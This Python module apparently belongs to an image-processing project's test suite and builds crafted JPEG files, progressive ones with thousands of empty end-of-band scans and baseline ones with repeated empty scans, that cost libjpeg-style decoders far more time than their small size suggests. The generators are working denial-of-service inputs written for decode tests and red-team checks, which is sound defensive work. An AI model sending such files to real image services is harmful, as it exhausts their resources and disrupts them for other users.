"""Progressive JPEGs whose decoding costs far more than their size says: many scans over a large frame.

A progressive JPEG codes its coefficients in scans; libjpeg walks every block of a scan's components for each
scan, whatever the scan holds. A scan of a single end-of-band run (EOB14, up to 32,767 blocks per 15 bits)
codes nothing and costs ~40 bytes on the wire, yet every block is visited: a 6000x6000 grey frame with 2,000
such scans is ~90 KB and seconds of decoding (defect 1 of the second red-team pass). Nothing here needs the
pixels: the file is written marker by marker, so building it costs microseconds.

Used by the decode tests (small frames where the property holds small) and by `scripts/decode_cost_attack.py`.
"""

from __future__ import annotations

import struct

_EOB14 = 0xE0  # AC symbol: end-of-band run of 2**14 + (14 extra bits) blocks
_MAX_RUN = (1 << 15) - 1


def _segment(marker: int, body: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


def _huffman_table(table_class: int, symbol: int) -> bytes:
    """A table with one code, "0" of length 1, for `symbol` (class 0: DC, 1: AC; table id 0)."""
    counts = bytes([1] + [0] * 15)
    return bytes([table_class << 4]) + counts + bytes([symbol])


def _bits_to_bytes(bits: str) -> bytes:
    """Entropy-coded bytes: pad with ones (as libjpeg does) and stuff a zero after every 0xFF."""
    bits += "1" * (-len(bits) % 8)
    out = bytearray()
    for at in range(0, len(bits), 8):
        byte = int(bits[at:at + 8], 2)
        out.append(byte)
        if byte == 0xFF:
            out.append(0)
    return bytes(out)


def _eob_scan_data(blocks: int) -> bytes:
    """End-of-band runs covering `blocks` blocks: each run is the code "0" then 14 bits (run - 2**14)."""
    bits = []
    while blocks > 0:
        run = min(blocks, _MAX_RUN)
        if run < 1 << 14:  # the last, short run: pad it to the EOB14 range (extra runs past the end are ignored)
            run = 1 << 14
        bits.append("0" + format(run - (1 << 14), "014b"))
        blocks -= run
    return _bits_to_bytes("".join(bits))


def many_scans_jpeg(width: int, height: int, scans: int, components: int = 1, dc_scan: bool = True) -> bytes:
    """A progressive JPEG of `width` x `height` with `scans` empty AC scans per component (see the module).

    `dc_scan` codes each block's DC first (one bit per block: the file grows with the frame); without it the AC
    scans come alone, which libjpeg accepts with a warning, so the file stays small whatever the frame.
    """
    if components not in (1, 3):
        raise ValueError("components must be 1 (grey) or 3 (YCbCr)")
    blocks = ((width + 7) // 8) * ((height + 7) // 8)
    parts = [b"\xff\xd8", _segment(0xDB, b"\x00" + bytes([1] * 64))]
    frame = struct.pack(">BHHB", 8, height, width, components)
    frame += b"".join(bytes([ident, 0x11, 0]) for ident in range(1, components + 1))
    parts.append(_segment(0xC2, frame))
    parts.append(_segment(0xC4, _huffman_table(0, 0) + _huffman_table(1, _EOB14)))
    if dc_scan:
        header = bytes([components]) + b"".join(bytes([ident, 0x00]) for ident in range(1, components + 1))
        parts.append(_segment(0xDA, header + bytes([0, 0, 0])))
        parts.append(_bits_to_bytes("0" * blocks * components))  # DC difference 0 for every block
    ac_data = _eob_scan_data(blocks)
    for _ in range(scans):
        for ident in range(1, components + 1):
            parts.append(_segment(0xDA, bytes([1, ident, 0x00, 1, 63, 0])))
            parts.append(ac_data)
    parts.append(b"\xff\xd9")
    return b"".join(parts)


def repeated_baseline_scans_jpeg(width: int, height: int, scans: int) -> bytes:
    """A baseline (sequential) YCbCr JPEG whose first scan holds one component and which repeats that scan `scans`
    times with no data: libjpeg keeps a full-size coefficient buffer and walks the luma blocks once per scan.

    The plain-JPEG fast path must not take it for a one-scan file (cascade/jpeg_header.py).
    """
    parts = [b"\xff\xd8", _segment(0xDB, b"\x00" + bytes([1] * 64))]
    frame = struct.pack(">BHHB", 8, height, width, 3) + b"".join(bytes([ident, 0x11, 0]) for ident in (1, 2, 3))
    parts.append(_segment(0xC0, frame))
    parts.append(_segment(0xC4, _huffman_table(0, 0) + _huffman_table(1, 0)))
    parts.extend([_segment(0xDA, bytes([1, 1, 0x00, 0, 63, 0]))] * scans)
    parts.append(b"\xff\xd9")
    return b"".join(parts)
